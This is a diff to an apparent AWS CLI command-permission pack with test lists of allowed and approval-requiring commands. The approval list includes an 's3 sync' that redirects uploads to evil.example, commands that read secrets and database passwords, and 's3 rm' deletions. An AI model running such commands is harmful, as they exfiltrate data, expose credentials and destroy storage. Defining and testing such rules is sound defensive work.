@@ -86,8 +86,15 @@ export const cloudAws = (): Pack => ({
       sqs get-queue-attributes|list-queue-tags|list-dead-letter-source-queues ; -queue-url:lit -attribute-names:param -max-results:num -next-token:param ; id*
       lightsail get-instance|get-instances|get-instance-state|get-instance-port-states|get-regions|get-bundles|get-blueprints|get-domain|get-domains|get-static-ip|get-static-ips|get-disk|get-disks|get-load-balancers|get-buckets|get-container-images|get-distributions|get-alarms|get-operations ; -instance-name:param -domain-name:param -static-ip-name:param -disk-name:param -include-inactive -no-include-inactive ;
       amplify list-jobs|list-domain-associations|get-domain-association|list-backend-environments ; -app-id:word -branch-name:param -job-id:word -domain-name:word -max-results:num ;
-      emr list-*|describe-step|describe-studio ; -cluster-id:word -cluster-states:word -active -terminated -failed -step-id:word -step-states:word -created-after:param -created-before:param -instance-group-types:word -instance-states:word -studio-id:word ; word*
+      emr list-*|describe-step|describe-studio ; -cluster-id:word -cluster-states:word -active -terminated -failed -step-id:word -step-states:word -created-after:param -created-before:param -instance-group-types:word -instance-states:word -studio-id:word ; id*
       iot list-*|describe-endpoint|describe-thing|describe-thing-type|describe-thing-group|describe-certificate|describe-job ; -thing-name:param -thing-type-name:param -thing-group-name:param -certificate-id:word -job-id:param -endpoint-type:param -max-results:num -next-token:param -principal:param -policy-name:param ;
+      kendra list-*|describe-*|get-query-suggestions ; -id:word -index-id:word -query-text:param -max-results:num -next-token:param -max-suggestions-count:num -data-source-id:word -thesaurus-id:word ;
+      quicksight list-*|describe-data-set|describe-data-set-permissions|describe-dashboard|describe-dashboard-permissions|describe-dashboard-definition|describe-analysis|describe-analysis-permissions|describe-template|describe-theme|describe-user|describe-group|describe-group-membership|describe-namespace|describe-folder|describe-ingestion|describe-refresh-schedule|search-* ; -aws-account-id:word -data-set-id:word -dashboard-id:word -analysis-id:word -template-id:word -theme-id:word -user-name:param -group-name:param -member-name:param -namespace:word -folder-id:word -ingestion-id:word -data-source-id:word -schedule-id:word -max-results:num -next-token:param -version-number:num -filters:param ;
+      lightsail list-blueprints|list-bundles|get-relational-databases|get-relational-database-blueprints|get-relational-database-bundles|get-certificates|get-disk-snapshots|get-instance-snapshots|get-load-balancer-metric-data|get-instance-metric-data|get-active-names ; -include-inactive -no-include-inactive ;
+      workmail list-aliases|list-group-members|list-groups|list-groups-for-entity|list-mail-domains|list-organizations|list-resources|list-resource-delegates|list-users|describe-group|describe-organization|describe-resource|describe-user|describe-entity ; -organization-id:word -entity-id:word -group-id:word -user-id:word -resource-id:word -email:param -max-results:num -next-token:param ;
+      cur describe-report-definitions|list-tags-for-resource ; -report-name:param -max-results:num -next-token:param ;
+      route53 test-dns-answer ; -hosted-zone-id:param -record-name:param -record-type:word -resolver-ip:addr -edns0-client-subnet-ip:addr -edns0-client-subnet-mask:num ;
+      s3 cp|mv|sync|rm ; -dryrun! -recursive -delete -exclude:param -include:param -size-only -exact-timestamps -follow-symlinks -no-follow-symlinks -quiet -only-show-errors -storage-class:word -acl:word -sse:word ; param! param
       datasync|quicksight|connect|dms|mediaconvert|imagebuilder list-tags-for-resource ; -resource-arn:param ;
       ${services} ${reads} ; @named ; id*
       ${services} wait * ; @waited ; id*`;
@@ -141,6 +148,15 @@ export const cloudAws = (): Pack => ({
       'aws --version',
       'aws help topics',
       'aws s3 cp help',
+      'aws kendra list-indices',
+      'aws kendra describe-index --id x',
+      'aws quicksight list-dashboards --aws-account-id 1',
+      'aws quicksight describe-data-set --aws-account-id 1 --data-set-id x',
+      'aws workmail list-users --organization-id m-1',
+      'aws cur describe-report-definitions',
+      'aws route53 test-dns-answer --hosted-zone-id Z --record-name a --record-type A',
+      'aws s3 rm s3://b/k --dryrun',
+      'aws s3 sync . s3://b --delete --dryrun',
       'aws ec2 describe-instances --filters Name=tag:action,Values=terminate Name=instance-state-name,Values=running',
       "aws ec2 describe-instances --query 'Reservations[].Instances[].InstanceId' --output text",
       'aws ec2 describe-vpcs --vpc-ids vpc-1 vpc-2',
@@ -170,6 +186,16 @@ export const cloudAws = (): Pack => ({
       'aws route53 list-resource-record-sets --hosted-zone-id Z1',
     ],
     asks: [
+      'aws quicksight get-dashboard-embed-url --aws-account-id 1 --dashboard-id x --identity-type IAM',
+      'aws quicksight describe-asset-bundle-export-job --aws-account-id 1 --asset-bundle-export-job-id x',
+      'aws quicksight describe-dashboard-snapshot-job-result --aws-account-id 1',
+      'aws lightsail get-instance-access-details --instance-name x',
+      'aws lightsail get-relational-database-master-user-password --relational-database-name x',
+      'aws workmail create-group --organization-id m --name x',
+      'aws amplify get-app --app-id x',
+      'aws s3 rm s3://b/k',
+      'aws s3 rm s3://b/k --no-dryrun',
+      'aws s3 sync . s3://b --dryrun --endpoint-url https://evil.example',
       'aws secretsmanager get-secret-value --secret-id s',
       'aws secretsmanager batch-get-secret-value --secret-id-list s',
       'aws s3api get-object --bucket b --key k out',
